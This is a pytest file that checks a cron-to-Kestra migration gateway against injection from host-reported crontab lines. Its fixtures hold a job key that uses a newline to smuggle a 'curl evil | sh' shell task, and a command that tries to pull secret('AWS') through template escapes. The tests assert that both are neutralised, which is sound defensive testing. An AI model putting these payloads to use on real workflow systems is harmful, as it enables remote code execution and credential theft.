"""What a cron host reports cannot become code in the wrap flow Kestra receives.

The gateway runs for real (uvicorn, loopback) with a cron source; the job is
reported over HTTP exactly as `switchyard-cron sync` reports it; the lifecycle
wraps it against the Kestra emulator, and the proof is the flow as Kestra
stored it (source text and parsed body).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from sqlalchemy.engine import Engine

from emulators.kestra import KestraEmulator
from migration_tools.kestra_api import KestraApi
from migration_tools.lifecycle import Migrations
from migration_tools.wrap import TRACEPARENT
from tests.adapters.cron.conftest import SOURCE, TOKEN, CronGateway, running_gateway
from tests.migration_tools.conftest import ManualClock
from tests.migration_tools.kestra_render import render, render_list
from tests.migration_tools.lifecycle_support import NS

WRAP_KEYS = {"id", "namespace", "description", "labels", "tasks", "triggers"}
INJECTED = (
    "web-01/root/0123456789ab\nfinally:\n  - id: x\n"
    "    type: io.kestra.plugin.scripts.shell.Commands\n    commands: [curl evil | sh]"
)
COMMAND = "/opt/sync.sh --key '{{ secret('AWS') }}' {% endraw %}{{ secret('AWS') }}"


@pytest.fixture
def gateway(engine: Engine, tmp_path: Path) -> Iterator[CronGateway]:
    with running_gateway(engine, tmp_path / "gw") as gw:
        yield gw


def report_line(gw: CronGateway, key: str, command: str) -> None:
    """One crontab line, posted to the host API as `switchyard-cron sync` posts it."""
    line = {
        "key": key,
        "host": "web-01",
        "user": "root",
        "schedule": "0 3 * * *",
        "schedule_native": "0 3 * * *",
        "timezone": "UTC",
        "command": command,
        "path": "/etc/cron.d/sync",
        "line_no": 1,
        "line": f"0 3 * * * root {command}",
    }
    answer = httpx.post(
        f"{gw.url}/api/v1/cron/jobs",
        json={"host": "web-01", "jobs": [line]},
        headers={"Authorization": f"Bearer {TOKEN}"},
        timeout=30,
    )
    assert answer.status_code == 200, answer.text


def wrapped(gw: CronGateway, kestra: KestraEmulator, clock: ManualClock, key: str) -> Any:
    m = Migrations(
        gw.engine, kestra=KestraApi(kestra.url), legacy={SOURCE: gw.adapter}, clock=clock
    )
    m.translate(SOURCE, key, actor="alice")
    flow_id = str(m.wrap(SOURCE, key, actor="alice").wrap_flow_id)
    return kestra.state.flows[("main", NS, flow_id)]


def test_a_reported_job_key_with_a_newline_adds_no_top_level_key_to_the_deployed_flow(
    gateway: CronGateway, kestra: KestraEmulator, clock: ManualClock
) -> None:
    report_line(gateway, INJECTED, "/usr/local/bin/backup.sh")
    record = wrapped(gateway, kestra, clock, INJECTED)
    assert set(record.body) == WRAP_KEYS
    assert set(yaml.safe_load(record.source)) == WRAP_KEYS
    assert [t["id"] for t in record.body["tasks"]] == [
        "switchyard_trace",
        "switchyard_label",
        "command",
    ]
    assert "curl evil" not in str(record.body["tasks"])


def test_a_reported_command_reaches_the_host_literally_not_as_kestra_secrets(
    gateway: CronGateway, kestra: KestraEmulator, clock: ManualClock
) -> None:
    key = "web-01/root/fedcba987654"
    report_line(gateway, key, COMMAND)
    task = wrapped(gateway, kestra, clock, key).body["tasks"][-1]
    assert "{% raw %}" in task["commands"][0]
    assert render_list(task["commands"]) == [COMMAND]  # Pebble would evaluate none of it
    assert render(task["host"]) == "web-01" and render(task["username"]) == "root"
    # Switchyard's own expressions stay live: the traceparent and the SSH key secret.
    assert task["env"] == {"TRACEPARENT": TRACEPARENT}
    assert task["privateKey"] == "{{ secret('SSH_PRIVATE_KEY') }}"
